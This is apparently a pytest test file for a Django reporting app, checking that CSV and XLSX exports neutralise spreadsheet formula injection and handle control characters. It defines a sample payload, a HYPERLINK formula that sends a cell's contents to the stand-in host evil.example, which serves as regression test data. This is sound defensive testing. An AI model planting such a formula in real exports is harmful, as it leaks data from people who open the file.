"""Exports carry no formulas and read right in a Belgian spreadsheet (issue #8.10). Every
export (group and staff) goes through reports.exports.csv_response / xlsx_response."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from reports.exports import csv_response, xlsx_response

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_that_could_start_a_formula_is_neutralised(db, start):
    response = csv_response([("Groep", f"{start}1+1", 3)], "x")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM Excel needs for accents
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][1] == f"'{start}1+1"
    assert rows[1][2] == "3"  # numbers stay numbers


@pytest.mark.parametrize("value", [EVIL, "+32 50 12 34 56", "-5", "@SUM(A1)"])
def test_xlsx_text_is_always_a_string_cell(db, value):
    response = xlsx_response([("Groep", value, 1)], "x", sheet="S")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s"
    assert cell.value == value
    assert sheet.cell(row=2, column=3).data_type == "n"


def test_control_characters_in_a_name_are_no_500(db):
    response = xlsx_response([("Groep", "Schakel\x01\x0bBrugge", 1)], "x", sheet="S")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    assert sheet.cell(row=2, column=2).value == "SchakelBrugge"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_group_named_like_a_formula_exports_as_text(world, as_user, fmt):
    """The reproduction: a group name set in the admin to =HYPERLINK(…) became a live formula."""
    world.group_a.name = EVIL
    world.group_a.save()
    response = as_user(world.coordinator_a).get(
        reverse("reports:report_export", kwargs={"slug": "brugge", "fmt": fmt})
    )
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert isinstance(sheet, Worksheet)
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        assert not [c for c in cells if c.data_type == "f"]
        assert any("HYPERLINK" in str(c.value) for c in cells)
    else:
        text = response.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
